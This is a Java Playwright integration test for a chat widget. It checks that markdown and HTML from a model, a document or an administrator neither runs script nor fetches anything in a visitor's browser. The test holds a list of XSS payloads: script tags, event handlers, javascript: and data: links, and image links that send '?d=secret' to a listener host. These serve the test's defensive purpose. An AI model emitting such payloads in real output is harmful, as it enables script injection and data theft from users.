package org.concierge.it.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static com.microsoft.playwright.assertions.PlaywrightAssertions.setDefaultAssertionTimeout;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.concierge.it.TestInstallation;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What a model, a document or an administrator writes does nothing in a visitor's browser. */
class WidgetSafetyIT {
  private static final String EVIL =
      "\"><script>window.evil=1</script><img src=x onerror=window.evil=2>";

  private static TestInstallation installation;
  private static Chromium chromium;
  private static HostPages host;
  private static HostPages listener;
  private static WidgetStage stage;

  @BeforeAll
  static void aPublicPageAndSomebodyWhoListens() {
    installation = TestInstallation.shared();
    chromium = new Chromium();
    setDefaultAssertionTimeout(20_000);
    host = new HostPages(installation.url().toString());
    listener = new HostPages(installation.url().toString());
    stage = new WidgetStage(installation, "widget-safety");
    String document =
        stage.publish("returns.txt", "A product " + EVIL + " can be returned in thirty days.");
    stage.admin().patch("/api/v1/documents/" + document, Map.of("title", "Returns " + EVIL));
    stage.widget("site", host.origin(), Map.of("title", EVIL, "greeting", EVIL, "name", EVIL));
  }

  @AfterAll
  static void end() {
    host.close();
    listener.close();
    chromium.close();
  }

  /** Everything that has ever made a chat page fetch or run something. */
  private static String attacks(String evil) {
    return String.join(
        "\n\n",
        "Within thirty days [1]. ![x](" + evil + "/a?d=secret)",
        "![y][r] [z][r]\n\n[r]: " + evil + "/b",
        "<img src=\"" + evil + "/c\"><script>window.evil=3</script><svg onload=window.evil=4>",
        "<iframe src=\"" + evil + "/d\"></iframe><link rel=stylesheet href=" + evil + "/e>",
        "[click](javascript:window.evil=5) <javascript:window.evil=6>",
        "[click](data:text/html,<script>window.evil=7</script>) [click](vbscript:x)",
        "[![i](" + evil + "/f)](" + evil + "/g)",
        "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
        "<style>@import url(" + evil + "/h)</style>",
        "[https://bank.example](" + evil + "/i) [j](https://bank.example@evil.example/j)",
        "| a |\n|---|\n| ![k](" + evil + "/k) |",
        "> ![l](" + evil + "/l)\n\n1. ![m](" + evil + "/m)",
        "`![n](" + evil + "/n)`",
        EVIL);
  }

  @Test
  void whatAModelWritesFetchesNothingAndRunsNothing() {
    String evil = listener.origin();
    stage.answer(attacks(evil));
    List<String> noticed = new ArrayList<>();
    try (BrowserContext context = chromium.stranger()) {
      Page page = context.newPage();
      watch(page, noticed);
      askAndLookAtEverything(page);

      assertThat(page.evaluate("() => window.evil")).isNull();
      assertThat(page.locator(".log img, .log iframe, .log script, .log svg, .log style").count())
          .isZero();
      assertThat(hrefs(page)).isNotEmpty().allMatch(href -> href.startsWith("http://127.0.0.1:"));
      assertThat(page.locator(".md-host").allTextContents())
          .contains(" (" + evil.replace("http://", "") + ")");
      assertThat(page.locator(".log a[target=_blank][rel='noopener noreferrer']").count())
          .isEqualTo(page.locator(".log a").count());
      assertThat(page.locator(".source")).containsText("<script>");
      assertThat(page.locator(".head h2")).hasText(EVIL);
    }
    assertThat(noticed).isEmpty();
    assertThat(listener.asked()).isEmpty();
  }

  /** Whatever goes elsewhere, opens a dialog or is stopped by the page's policy. */
  private static void watch(Page page, List<String> noticed) {
    page.onRequest(
        request -> {
          if (!request.url().startsWith(host.origin())
              && !request.url().startsWith(installation.url().toString())
              && !request.url().startsWith("data:,")) {
            noticed.add(request.url());
          }
        });
    page.onDialog(
        dialog -> {
          noticed.add(dialog.message());
          dialog.dismiss();
        });
    page.onConsoleMessage(
        message -> {
          if (message.text().contains("Content Security Policy")) {
            noticed.add(message.text());
          }
        });
  }

  private static void askAndLookAtEverything(Page page) {
    host.with(stage.id(), "site");
    page.navigate(host.origin() + "/public.html");
    page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Ask a question")).click();
    page.locator("textarea").fill("How can a product be returned?");
    page.locator("textarea").press("Enter");
    assertThat(page.getByText("Copy")).isVisible();
    page.locator(".md-citation").first().click();
    page.locator("details summary").focus();
    page.waitForTimeout(500);
  }

  @SuppressWarnings("unchecked")
  private static List<String> hrefs(Page page) {
    return (List<String>)
        page.locator(".log a").evaluateAll("links => links.map(link => link.href)");
  }
}
